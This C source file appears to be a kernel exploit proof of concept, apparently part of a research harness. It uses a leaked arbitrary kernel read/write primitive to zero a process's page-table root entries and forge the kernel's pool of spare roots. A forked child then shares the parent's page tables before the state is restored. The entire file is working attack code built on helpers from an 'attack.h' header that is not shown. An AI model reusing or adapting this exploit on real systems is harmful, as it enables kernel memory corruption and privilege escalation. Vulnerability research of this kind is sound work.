/* The first process's root counts as an empty one: the next fork makes the child's page tables
 * below it. */
#include <signal.h>
#include <sys/wait.h>
#include <unistd.h>

#include "attack.h"

enum { USER_ENTRIES = 256, ROOTS = 2, ASLEEP_S = 1000 };

/* What the pair of roots leads to: that of the kernel, and that of user mode behind it. */
static uint64_t entries[ROOTS][USER_ENTRIES];

static uint64_t entry_place(const struct bw_leak *leak, int root, int index)
{
	return attack_frame_alias(leak, leak->root_first + (uint64_t)root) +
	       (uint64_t)index * sizeof(entries[0][0]);
}

static void entries_read(const struct bw_leak *leak)
{
	for (int root = 0; root < ROOTS; root++) {
		for (int i = 0; i < USER_ENTRIES; i++) {
			entries[root][i] = (uint64_t)bw_vuln_read(entry_place(leak, root, i));
		}
	}
}

/* So that the first process finds its own again: what is below is not touched meanwhile. */
static void entries_write(const struct bw_leak *leak, bool are_there)
{
	for (int root = 0; root < ROOTS; root++) {
		for (int i = 0; i < USER_ENTRIES; i++) {
			if (entries[root][i] != 0) {
				attack_check("vuln_write",
					     bw_vuln_write(entry_place(leak, root, i),
							   are_there ? entries[root][i] : 0));
			}
		}
	}
}

int main(void)
{
	struct attack_frame_books books;
	struct bw_leak leak;
	uint64_t before;
	pid_t child;

	attack_begin(&leak, 1, 0);
	entries_read(&leak);
	attack_frame_books_read(&leak, leak.root_first, &books);
	attack_say("the first process's root is 0x%lx; the stock at 0x%lx has it for an empty one",
		   leak.root_first, leak.spare_roots.slots);
	entries_write(&leak, false);
	attack_frame_books_idle_root(&books);
	before = attack_stock_forge(&leak.spare_roots, leak.root_first);
	child = fork();
	if (child == 0) {
		sleep(ASLEEP_S);
		_exit(0);
	}
	attack_say("process %d and the first one have the same pages: this program's", child);
	attack_have_witnessed();
	if (child > 0) {
		kill(child, SIGKILL);
		waitpid(child, NULL, 0);
	}
	/* with the child the root went back to the stock */
	attack_stock_replace(&leak.spare_roots, leak.root_first, before);
	attack_frame_books_restore(&books);
	entries_write(&leak, true);
	return attack_finish();
}
